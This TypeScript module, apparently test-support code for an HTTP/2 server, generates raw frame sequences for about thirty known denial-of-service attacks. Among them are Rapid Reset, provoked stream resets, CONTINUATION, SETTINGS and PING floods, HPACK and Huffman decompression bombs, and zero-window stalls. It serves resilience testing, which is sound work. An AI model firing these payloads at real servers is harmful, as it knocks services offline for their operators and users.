// Abuse of HTTP/2 by cheap frames that cost the server much: what is known by name, each as the bytes of one connection.
import { FLAG, FRAME, frame, headerBlock, requestFields, rst } from '../../support/raw-http2.ts';

export interface Attack {
  readonly name: string;
  /** Frames behind the preface, in batches that are written one after the other. `count`: how often the cheap thing is done. */
  readonly batches: (count: number) => Iterable<Buffer>;
  /** How often, in full and in the short run. */
  readonly counts: readonly [number, number];
}

const EMPTY = Buffer.alloc(0);
const BATCH = 250;

function u32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
}

const head = (stream: number, path: string, end: boolean, method = 'GET'): Buffer =>
  frame(FRAME.HEADERS, FLAG.END_HEADERS | (end ? FLAG.END_STREAM : 0), stream, headerBlock(requestFields(method, path, 'shop.example.com')));
const windowUpdate = (stream: number, by: number): Buffer => frame(FRAME.WINDOW_UPDATE, 0, stream, u32(by));
const settings = (...pairs: readonly (readonly [number, number])[]): Buffer =>
  frame(FRAME.SETTINGS, 0, 0, Buffer.concat(pairs.map(([id, value]) => Buffer.concat([Buffer.from([id >> 8, id & 255]), u32(value)]))));
const INITIAL_WINDOW = 4;

/** The same frames many times, a batch at a time; `make` gets 0, 1, 2, … */
function* repeated(count: number, make: (index: number) => Buffer, before: Buffer = EMPTY): Iterable<Buffer> {
  if (before.length > 0) yield before;
  for (let at = 0; at < count; at += BATCH) yield Buffer.concat(Array.from({ length: Math.min(BATCH, count - at) }, (_, i) => make(at + i)));
}

/** Opens a stream, and then does what makes the server reset it. */
function madeYouReset(name: string, provoke: (stream: number) => Buffer, end = true): Attack {
  return { name: `streams that the server must reset: ${name}`, counts: [20_000, 2_000], batches: (count) => repeated(count, (i) => Buffer.concat([head(i * 2 + 1, '/attack/slow', end), provoke(i * 2 + 1)])) };
}

function flood(name: string, make: (index: number) => Buffer, before?: Buffer): Attack {
  return { name: `a flood of ${name}`, counts: [100_000, 5_000], batches: (count) => repeated(count, make, before) };
}

/** A field block that puts one large field into the dynamic table and then names it again and again, a byte each time (RFC 7541 §6.1). */
function bomb(references: number): Buffer {
  const value = 'v'.repeat(4_000);
  const length = Buffer.from([127, ...varint(value.length - 127)]);
  const indexed = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('x'), length, Buffer.from(value)]);
  return Buffer.concat([headerBlock(requestFields('GET', '/attack/slow', 'shop.example.com')), indexed, Buffer.alloc(references, 0xbe)]);
}

function varint(value: number): number[] {
  const bytes: number[] = [];
  for (let left = value; ; left >>= 7) {
    if (left < 128) return [...bytes, left];
    bytes.push((left & 127) | 128);
  }
}

/** A field whose value is 10 kB of the shortest Huffman code (RFC 7541 §B: `0` is 00000). */
function huffmanBlock(): Buffer {
  const length = 10_000;
  return Buffer.concat([headerBlock(requestFields('GET', '/attack/slow', 'shop.example.com')), Buffer.from([0x10, 1]), Buffer.from('x'), Buffer.from([255, ...varint(length - 127)]), Buffer.alloc(length)]);
}

const PREFIX = headerBlock(requestFields('GET', '/attack/slow', 'shop.example.com'));

export const ATTACKS: readonly Attack[] = [
  { name: 'rapid reset', counts: [20_000, 4_000], batches: (count) => repeated(count, (i) => Buffer.concat([head(i * 2 + 1, '/attack/slow', true), rst(i * 2 + 1, 8)])) },
  { name: 'rapid reset of uploads', counts: [20_000, 2_000], batches: (count) => repeated(count, (i) => Buffer.concat([head(i * 2 + 1, '/attack/slow', false, 'POST'), frame(FRAME.DATA, 0, i * 2 + 1, 'x'), rst(i * 2 + 1, 8)])) },
  madeYouReset('WINDOW_UPDATE of 0', (stream) => windowUpdate(stream, 0)),
  madeYouReset('a window beyond 2^31 - 1', (stream) => Buffer.concat([windowUpdate(stream, 0x7fffffff), windowUpdate(stream, 0x7fffffff)])),
  madeYouReset('DATA on a stream that was ended', (stream) => frame(FRAME.DATA, 0, stream, 'x')),
  madeYouReset('PRIORITY of a wrong length', (stream) => frame(FRAME.PRIORITY, 0, stream, Buffer.alloc(4))),
  madeYouReset('PRIORITY on itself', (stream) => frame(FRAME.PRIORITY, 0, stream, Buffer.concat([u32(stream), Buffer.from([1])]))),
  madeYouReset('HEADERS on a stream that was ended', (stream) => head(stream, '/attack/slow', true)),
  madeYouReset('trailers without END_STREAM', (stream) => frame(FRAME.HEADERS, FLAG.END_HEADERS, stream, headerBlock([['x', '1']])), false),
  madeYouReset('a malformed field', (stream) => frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, stream, headerBlock([['X-Upper', '1']])), false),
  { name: 'CONTINUATION without end', counts: [20_000, 4_000], batches: (count) => repeated(count, () => frame(FRAME.CONTINUATION, 0, 1, headerBlock([['x', 'y'.repeat(50)]])), frame(FRAME.HEADERS, FLAG.END_STREAM, 1, PREFIX)) },
  { name: 'CONTINUATION of length 0 without end', counts: [20_000, 4_000], batches: (count) => repeated(count, () => frame(FRAME.CONTINUATION, 0, 1), frame(FRAME.HEADERS, FLAG.END_STREAM, 1, PREFIX)) },
  { name: 'CONTINUATION of 16 kB without end', counts: [2_000, 500], batches: (count) => repeated(count, () => frame(FRAME.CONTINUATION, 0, 1, headerBlock([['x', 'y'.repeat(16_000)]])), frame(FRAME.HEADERS, FLAG.END_STREAM, 1, PREFIX)) },
  flood('SETTINGS', () => settings([3, 100])),
  flood('empty SETTINGS', () => frame(FRAME.SETTINGS, 0, 0)),
  flood('SETTINGS that change the table size', (i) => settings([1, i % 2 === 0 ? 0 : 4096])),
  flood('SETTINGS acknowledgements', () => frame(FRAME.SETTINGS, FLAG.ACK, 0)),
  flood('PING', () => frame(FRAME.PING, 0, 0, '12345678')),
  flood('empty DATA', () => frame(FRAME.DATA, 0, 1), head(1, '/attack/slow', false, 'POST')),
  flood('padded empty DATA', () => frame(FRAME.DATA, 8, 1, Buffer.from([0])), head(1, '/attack/slow', false, 'POST')),
  flood('PRIORITY', (i) => frame(FRAME.PRIORITY, 0, i * 2 + 1, Buffer.concat([u32(0), Buffer.from([1])]))),
  flood('WINDOW_UPDATE', () => windowUpdate(0, 1)),
  flood('unknown frames', () => frame(0xbb, 0, 1, 'x'.repeat(100))),
  flood('RST_STREAM of streams that never were', (i) => rst(i * 2 + 1, 8)),
  flood('GOAWAY', () => frame(FRAME.GOAWAY, 0, 0, Buffer.alloc(8))),
  { name: 'HPACK bombs behind a window of 0', counts: [100, 100], batches: (count) => repeated(count, (i) => frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, i * 2 + 1, bomb(4_000)), settings([INITIAL_WINDOW, 0])) },
  { name: 'HPACK bombs just below the limits', counts: [2_000, 500], batches: (count) => repeated(count, (i) => frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, i * 2 + 1, bomb(5)), settings([INITIAL_WINDOW, 0])) },
  { name: 'Huffman bombs', counts: [2_000, 500], batches: (count) => repeated(count, (i) => frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, i * 2 + 1, huffmanBlock())) },
  {
    name: 'a window that opens byte by byte',
    counts: [20_000, 4_000],
    batches: function* (count) {
      yield settings([INITIAL_WINDOW, 0]);
      yield Buffer.concat(Array.from({ length: 100 }, (_, i) => head(i * 2 + 1, '/attack/big', true)));
      yield* repeated(count, (i) => windowUpdate((i % 100) * 2 + 1, 1));
    },
  },
  {
    name: 'GOAWAY among requests',
    counts: [2_000, 400],
    batches: (count) => repeated(count, (i) => Buffer.concat([head(i * 2 + 1, '/attack/slow', true), ...(i % 10 === 9 ? [frame(FRAME.GOAWAY, 0, 0, Buffer.alloc(8))] : [])])),
  },
  { name: 'garbage behind the preface', counts: [100, 100], batches: (count) => repeated(count, (i) => Buffer.alloc(1_000, i)) },
];

/** Requests for large answers on a connection that lets nothing come. */
export function stalled(streams: number): Buffer {
  return Buffer.concat([settings([INITIAL_WINDOW, 0]), ...Array.from({ length: streams }, (_, i) => head(i * 2 + 1, '/attack/big', true))]);
}

/** A few requests and the end of the connection, in one go. */
export function parting(): Buffer {
  return Buffer.concat([...Array.from({ length: 10 }, (_, i) => head(i * 2 + 1, '/attack/slow', true)), frame(FRAME.GOAWAY, 0, 0, Buffer.alloc(8))]);
}
